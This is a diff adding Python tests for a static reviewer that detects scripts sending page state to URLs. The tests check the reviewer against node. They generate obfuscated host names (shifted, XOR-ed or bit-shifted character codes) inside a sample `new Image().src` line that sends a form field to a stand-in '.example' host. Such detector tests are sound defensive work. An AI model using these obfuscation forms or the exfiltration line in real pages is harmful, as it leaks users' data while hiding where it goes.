@@ -132,3 +132,88 @@ def test_a_host_decoded_or_cut_out_of_a_literal_is_named(script, host):
     found = review_static(f"<p>x</p><script>{script}</script>", file="b.html", fields=["a"])
     flows = [f for f in found if f.rule == "exfil.state-to-url"]
     assert flows and host in flows[0].hosts, [(f.rule, f.message) for f in found]
+
+
+def test_arithmetic_and_character_codes_give_what_node_gives():
+    node = shutil.which("node")
+    assert node, "node is needed (make setup installs it)"
+    rng = random.Random(20261206)
+    values = [0.0, -0.0, 1.0, -1.0, 2.0, 3.5, -7.25, 31.0, 32.0, 33.0, 255.0, 65536.0, 2.0 ** 31, -(2.0 ** 31), 2.0 ** 32 + 5,
+              1e21, math.inf, -math.inf, math.nan]
+    ops = sorted(jsstrings.ARITHMETIC)
+    pairs = [(rng.choice(ops), rng.choice(values), rng.choice(values)) for _ in range(1500)]
+    texts = [_text(rng) for _ in range(300)]
+    codes = [(rng.choice(["charCodeAt", "codePointAt"]), t, [rng.choice([0.0, 1.0, 2.0, -1.0, 7.0, 0.5])]) for t in texts]
+    wire = lambda x: {"n": str(x)} if not math.isfinite(x) else ("-0" if x == 0 and math.copysign(1, x) < 0 else x)  # noqa: E731
+    script = (
+        "const number = (x) => x === '-0' ? -0 : x && x.n !== undefined ? Number(x.n.replace('inf', 'Infinity')) : x;"
+        "const out = (v) => v === undefined ? null : Number.isNaN(v) ? 'NaN' : Object.is(v, -0) ? '-0' : !isFinite(v) ? String(v) : v;"
+        "const [pairs, codes] = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
+        "process.stdout.write(JSON.stringify([pairs.map(([op, a, b]) => out(new Function('a', 'b', `return a ${op} b`)(number(a), number(b)))),"
+        "  codes.map(([m, t, a]) => out(t[m](...a)))]));"
+    )
+    done = subprocess.run([node, "-e", script], input=json.dumps([[(o, wire(a), wire(b)) for o, a, b in pairs], codes]),
+                          capture_output=True, text=True, timeout=60, check=True)
+    computed, coded = json.loads(done.stdout)
+
+    def spelled(v: float | None) -> object:
+        if v is None:
+            return None
+        if math.isnan(v):
+            return "NaN"
+        if v == 0 and math.copysign(1, v) < 0:
+            return "-0"
+        return v if math.isfinite(v) else ("Infinity" if v > 0 else "-Infinity")
+
+    followed = 0
+    for (op, a, b), expected in zip(pairs, computed):
+        ours = jsstrings.arithmetic(op, a, b)
+        if ours is None:
+            continue  # not followed: never wrong
+        followed += 1
+        got = spelled(ours)
+        # The same IEEE doubles; a power may differ in its last bit between C's pow and V8's.
+        same = got == expected or isinstance(got, float) and isinstance(expected, (int, float)) and (
+            got == float(expected) or op == "**" and math.isclose(got, expected, rel_tol=1e-15))
+        assert same, (op, a, b, got, expected)
+    assert followed > len(pairs) * 0.9
+    assert [spelled(jsstrings.code_at(t, m, a)) for m, t, a in codes] == coded
+
+
+def _hidden_host(rng: random.Random, host: str) -> str:
+    """An expression that computes ``host`` character by character through a callback."""
+    k = rng.randint(1, 5)
+    form = rng.randrange(6)
+    if form == 0:
+        return f"[{', '.join(str(ord(c) + k) for c in host)}].map(c => String.fromCharCode(c - {k})).join('')"
+    if form == 1:
+        return f"'{''.join(chr(ord(c) ^ k) for c in host)}'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ {k})).join('')"
+    if form == 2:
+        return f"Array.from('{''.join(chr(ord(c) + i % 3) for i, c in enumerate(host))}', (c, i) => String.fromCharCode(c.charCodeAt(0) - i % 3)).join('')"
+    if form == 3:
+        return f"[...'{host.upper()}'].map(function (c) {{ return c.toLowerCase(); }}).join('')"
+    if form == 4:
+        return f"[{', '.join(str(ord(c) << 1) for c in host)}].map((c) => {{ return String.fromCharCode(c >> 1); }}).join('')"
+    return f"[{', '.join(repr(c) for c in host)}].map((c, i, all) => c).join('')"  # three parameters: not followed
+
+
+def test_a_host_spelled_by_a_callback_over_characters_is_the_one_node_computes():
+    """Each expression is evaluated by node; where the review names the flow's host, it is that host."""
+    node = shutil.which("node")
+    assert node, "node is needed (make setup installs it)"
+    rng = random.Random(20261207)
+    hosts = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 9))) for _ in range(60)]
+    expressions = [_hidden_host(rng, h) for h in hosts]
+    script = ("const xs = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
+              "process.stdout.write(JSON.stringify(xs.map((x) => String(eval(x)))));")
+    done = subprocess.run([node, "-e", script], input=json.dumps(expressions), capture_output=True, text=True, timeout=60, check=True)
+    named = 0
+    for expression, expected in zip(expressions, json.loads(done.stdout)):
+        found = review_static(f"<p>x</p><script>new Image().src = 'https://' + {expression} + '.example/?' + flowUi.get('a');</script>",
+                              file="b.html", fields=["a"])
+        flows = [f for f in found if f.rule == "exfil.state-to-url"]
+        assert flows, expression
+        if flows[0].hosts:
+            assert flows[0].hosts == [f"{expected}.example"], (expression, flows[0].hosts)
+            named += 1
+    assert named >= len(expressions) * 0.7
